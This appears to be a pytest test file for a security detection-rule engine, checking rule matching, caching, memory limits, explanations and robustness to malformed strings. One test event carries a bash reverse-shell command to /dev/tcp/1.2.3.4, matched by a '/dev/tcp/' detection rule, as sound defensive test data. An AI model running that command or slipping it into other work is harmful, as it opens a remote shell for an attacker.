"""Rule sets: loading, matching batches, memory, explanations, and text that means harm."""

import numpy as np
import pytest

from eguard.detection.rules import RuleSet
from eguard.errors import RuleError
from eguard.events.columns import EventBatch
from eguard.events.model import UNCOUNTED, Event, EventClass


def rule(identity, predicate, *, category="process_creation", product="windows", service="", codes=(), **changes):
    return {
        "id": identity,
        "title": f"Rule {identity}",
        "level": "medium",
        "author": "A. Author",
        "status": "test",
        "path": f"rules/{identity}.yml",
        "licence": "DRL-1.1",
        "tags": [],
        "selector": {"product": product, "category": category, "service": service, "event_codes": list(codes)},
        "predicate": predicate,
    } | changes


def ruleset(*items, **options):
    return RuleSet.from_json({"format": 1, "rules": list(items)}, **options)


def event(**facts):
    return Event(**({"time_unix": 0.0, "host_id": "h", "event_class": UNCOUNTED, "source": "sysmon"} | facts))


EXEC = {"event_class": EventClass.PROCESS_EXEC, "event_code": 1, "event_type": "exec"}
RULES = ruleset(
    rule("whoami", ["endswith", "Image", ["\\whoami.exe"]]),
    rule("odd-svchost", ["all", ["endswith", "Image", ["\\svchost.exe"]], ["not", ["startswith", "Image", ["C:\\W"]]]]),
    rule("run-key", ["contains", "TargetObject", ["\\Run\\"]], category="registry_set"),
    rule("task", ["equals", "EventID", ["4698"]], category="", service="security", codes=[4698]),
    rule("tunnel", ["endswith", "query", [".evil.example"]], category="dns", product=""),
    rule("shell", ["keyword", "", ["/dev/tcp/"]], category="", product="linux"),
)


def titles(found, rules=RULES):
    return [rules.rules[index].id for index in found]


def test_each_event_meets_the_rules_of_its_log_source_only():
    batch = EventBatch.from_events(
        [
            event(**EXEC, comm="whoami.exe"),
            event(event_code=13, event_type="reg_set", fields={"TargetObject": "HKU\\x\\Run\\y"}),
            event(event_code=12, event_type="reg_key", fields={"TargetObject": "HKU\\x\\Run\\y"}),
            event(source="security", event_code=4698, event_type="task_create"),
            event(source="zeek", event_class=EventClass.DNS_QUERY, event_type="dns", target="a.evil.example"),
            event(source="auditd", event_type="exec", fields={"a2": "bash -i >& /dev/tcp/1.2.3.4/9"}),
            event(source="auditd", event_type="exec", comm="ls"),
        ]
    )
    assert [titles(found) for found in RULES.match(batch)] == [
        ["whoami"],
        ["run-key"],
        [],
        ["task"],
        ["tunnel"],
        ["shell"],
        [],
    ]


def test_a_connection_that_came_in_meets_rules_about_who_opened_it():
    inbound = rule(
        "ssh-from-outside",
        [
            "all",
            ["equals", "Initiated", ["false"]],
            ["equals", "DestinationPort", ["22"]],
            ["endswith", "Image", ["/sshd"]],
            ["not", ["cidr", "SourceIp", ["10.0.0.0/8"]]],
        ],
        category="network_connection",
        product="linux",
    )
    rules = ruleset(inbound)
    said = {"Initiated": "false", "SourceIp": "192.0.2.66", "DestinationIp": "10.0.0.1", "DestinationPort": "22"}
    accept = {"source": "ebpf", "event_type": "tcp_accept", "image_path": "/usr/sbin/sshd", "comm": "sshd"}
    assert titles(rules.match_event(event(**accept, fields=said)), rules) == ["ssh-from-outside"]
    assert rules.match_event(event(**accept, fields=said | {"SourceIp": "10.9.9.9"})) == ()
    outbound = {"event_class": EventClass.NETWORK_CONNECT, "event_type": "tcp_connect"}
    assert rules.match_event(event(**accept | outbound, destination_address="192.0.2.66", destination_port=22)) == ()


def test_an_unrecorded_folder_is_no_suspicious_folder():
    assert RULES.match_event(event(**EXEC, comm="svchost.exe")) == ()
    assert titles(RULES.match_event(event(**EXEC, comm="svchost.exe", image_path="D:\\svchost.exe"))) == ["odd-svchost"]
    assert titles(RULES.match_event(event(**EXEC, fields={"Image": "D:\\svchost.exe"}))) == ["odd-svchost"]


def test_a_repeated_event_gets_the_remembered_answer_and_a_differing_one_its_own():
    rules = ruleset(rule("x", ["contains", "CommandLine", ["evil"]]))
    first, second = event(**EXEC, command_line="evil"), event(**EXEC, command_line="good")
    batch = EventBatch.from_events([first, second] * 3)
    assert rules.match(batch) == [(0,), ()] * 3
    assert rules.match(batch) == [(0,), ()] * 3
    assert len(rules._answers) == 2


@pytest.mark.parametrize(
    "name",
    ["comm", "parent_comm", "image_path", "command_line", "target", "destination_address", "user", "file_sha256"],
)
def test_no_column_that_rules_can_read_is_missing_from_what_answers_are_remembered_by(name):
    rules = ruleset(rule("x", ["exists", "Image"]))
    rules.match(EventBatch.from_events([event(**EXEC, **{name: "a"}), event(**EXEC, **{name: "b"})]))
    assert len(rules._answers) == 2


@pytest.mark.parametrize("name", ["CommandLine", "NewProcessName", "Company"])
def test_fields_of_a_record_that_rules_read_keep_events_apart(name):
    rules = ruleset(
        rule("x", ["all", ["equals", "Company", ["b"]], ["equals", "CommandLine", ["b"]], ["equals", "Image", ["b"]]])
    )
    base = {"CommandLine": "b", "NewProcessName": "b", "Company": "b"}
    events = [event(**EXEC, fields=base | {name: "a"}), event(**EXEC, fields=base)]
    assert rules.match(EventBatch.from_events(events)) == [(), (0,)]


def test_fields_that_no_rule_reads_do_not_fill_the_memory():
    rules = ruleset(rule("x", ["contains", "CommandLine", ["evil"]]))
    events = [event(**EXEC, fields={"CommandLine": "good", "UtcTime": str(number)}) for number in range(50)]
    assert rules.match(EventBatch.from_events(events)) == [()] * 50
    assert len(rules._answers) == 1


def test_events_that_no_rule_is_for_do_not_fill_the_memory():
    rules = ruleset(rule("x", ["exists", "Image"]))
    alerts = [event(event_class=EventClass.ALERT, source="wazuh", target=str(number)) for number in range(20)]
    assert rules.match(EventBatch.from_events(alerts)) == [()] * 20
    assert len(rules._answers) == 0


def test_memory_is_bounded_by_events_and_by_characters(monkeypatch):
    monkeypatch.setattr("eguard.detection.rules.REMEMBERED_EVENTS", 100)
    monkeypatch.setattr("eguard.detection.rules.REMEMBERED_CHARACTERS", 50_000)
    for count, length, most in ((300, 1, 100), (60, 2000, 25)):
        rules = ruleset(rule("x", ["contains", "CommandLine", ["evil"]]))
        lines = [f"{number} " + "x" * length for number in range(count)]
        rules.match(EventBatch(time_unix=np.zeros(count), command_line=lines, source=["sysmon"] * count))
        assert 0 < len(rules._answers) <= most


def test_explain_names_field_value_and_test():
    found = event(**EXEC, comm="WHOAMI.exe")
    assert RULES.explain(0, found) == [("Image", "\\WHOAMI.exe", "endswith '\\\\whoami.exe'")]


def test_explain_is_silent_where_the_rule_does_not_match_or_does_not_apply():
    assert RULES.explain(0, event(**EXEC, comm="cmd.exe")) == []
    assert RULES.explain(2, event(**EXEC, fields={"TargetObject": "\\Run\\"})) == []


def test_hunting_rules_come_only_when_asked_for():
    items = [rule("a", ["exists", "Image"], is_hunting=True), rule("b", ["exists", "Image"])]
    assert [one.id for one in ruleset(*items).rules] == ["b"]
    assert [one.id for one in ruleset(*items, include_hunting=True).rules] == ["a", "b"]


@pytest.mark.parametrize("obj", [None, [], {}, {"format": 2, "rules": []}, {"format": 1}, {"format": 1, "rules": {}}])
def test_another_format_is_refused(obj):
    with pytest.raises(RuleError):
        RuleSet.from_json(obj)


def test_a_broken_rule_is_named():
    with pytest.raises(RuleError, match="Rule broken") as caught:
        ruleset(rule("broken", ["regex", "Image", "(", ""]))
    assert caught.value.context["rule_id"] == "broken"


HOSTILE = [
    "",
    "\0",
    "\ud800\udfff",
    "\\" * 4000,
    "*?[]{}()" * 500,
    "\u202e\u0130\u03a3",
    "a" * 100_000,
    "\n\r\t",
    "%s%n{0}",
    "\x1b[2J",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_makes_matching_raise(text):
    rules = ruleset(
        rule("a", ["regex", "CommandLine", ".*a.*b.*c", ""]),
        rule("b", ["like", "Image", ["*a?b*"]]),
        rule("c", ["cidr", "User", ["10.0.0.0/8"]]),
        rule("d", ["greater", "User", 5]),
        rule("e", ["not", ["contains", "ParentImage", ["zzz"]]]),
        rule("f", ["keyword", "", ["zzz*yyy"]], category="", product=""),
    )
    columns = event(
        **EXEC, comm=text, parent_comm=text, image_path=text, command_line=text, target=text, user=text, source=text
    )
    own = dict.fromkeys(("Image", "CommandLine", "User", "Channel", "EventType", "EventID", text), text)
    for hostile in (columns, event(**EXEC, fields=own), event(event_code=12, fields=own, source=text)):
        (found,) = rules.match(EventBatch.from_events([hostile]))
        for index in found:
            assert isinstance(rules.explain(index, hostile), list)


def test_an_empty_batch_and_an_empty_set():
    assert RULES.match(EventBatch()) == []
    assert RuleSet(()).match(EventBatch.from_events([event(**EXEC)])) == [()]


def test_packed_rules_are_the_same_rules_in_another_process():
    again = RuleSet.from_packed(RULES.packed)
    assert again.rules == RULES.rules
    batch = EventBatch.from_events(
        [event(comm="whoami.exe", **EXEC), event(comm="svchost.exe", image_path="D:\\svchost.exe", **EXEC)]
    )
    assert again.match(batch) == RULES.match(batch) == [(0,), (1,)]
    assert again.packed == RULES.packed


def test_packed_rules_keep_the_choice_that_was_made_and_any_text():
    hunting = rule("hunt", ["contains", "CommandLine", ["\udc80", "x" * 40]], is_hunting=True)
    number = rule("number", ["greater", "DestinationPort", 10**30])
    assert [kept.id for kept in RuleSet.from_packed(ruleset(hunting, number).packed).rules] == ["number"]
    both = ruleset(hunting, number, include_hunting=True)
    assert RuleSet.from_packed(both.packed).rules == both.rules
    assert len(RuleSet.from_packed(RuleSet(()).packed)) == 0
